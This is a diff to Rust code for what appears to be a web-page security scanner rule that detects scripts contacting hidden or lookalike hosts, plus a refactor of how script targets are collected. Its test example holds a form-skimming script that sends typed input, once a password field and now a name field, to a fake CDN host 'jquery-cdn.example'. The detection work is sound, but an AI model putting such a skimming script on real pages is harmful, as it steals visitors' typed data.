@@ -43,7 +43,7 @@ pub(super) const RULE: Rule = Rule {
         Example::page(
             "what is typed goes to a host that is named like a library's",
             &[Answer::all(
-                r#"<body><input id="mk" type="password"><script>setInterval(function(){new Image().src="https://jquery-cdn.example/p?"+document.getElementById("mk").value},900)</script></body>"#,
+                r#"<body><input id="ho-ten"><script>setInterval(function(){new Image().src="https://jquery-cdn.example/p?"+document.getElementById("ho-ten").value},900)</script></body>"#,
             )],
         ),
     ],
@@ -110,8 +110,8 @@ fn is_bare(page: &Page) -> bool {
         && page.scripts.iter().all(|script| script.src.is_none())
 }
 
-/// Foreign hosts that a script hides, or that imitate others; those to which it leads or from which
-/// it loads are other rules' business.
+/// Foreign hosts that a script hides, or that imitate others; those to which it leads, from which it
+/// loads or to which it sends passwords are other rules' business.
 fn hidden_hosts(
     observation: &Observation<'_>,
     page: &Page,
@@ -119,7 +119,10 @@ fn hidden_hosts(
 ) -> Vec<(Url, Vec<Signal>)> {
     let url_of = |address: &String| page.url.join(address).ok();
     let hides_all = hides_all(observation, page, facts);
+    let skimmed =
+        facts.sends.iter().filter(|one| observation.knows_where() && !one.typed.is_empty());
     let mut told: Vec<String> = targets_of(facts)
+        .chain(skimmed.filter_map(|one| address_of(&one.target)))
         .filter_map(|address| url_of(address)?.host_str().map(str::to_owned))
         .collect();
     let mut found = Vec::new();
@@ -156,8 +159,12 @@ fn hides_all(observation: &Observation<'_>, page: &Page, facts: &ScriptFacts) ->
 /// Where a script leads, and what it loads.
 fn targets_of(facts: &ScriptFacts) -> impl Iterator<Item = &String> {
     let targets = facts.navigations.iter().map(|one| &one.target);
-    targets.chain(facts.loads.iter().map(|one| &one.target)).filter_map(|target| match target {
+    targets.chain(facts.loads.iter().map(|one| &one.target)).filter_map(address_of)
+}
+
+fn address_of(target: &Destination) -> Option<&String> {
+    match target {
         Destination::Whole(address) | Destination::Begins(address) => Some(address),
         Destination::Element(_) | Destination::Unknown => None,
-    })
+    }
 }
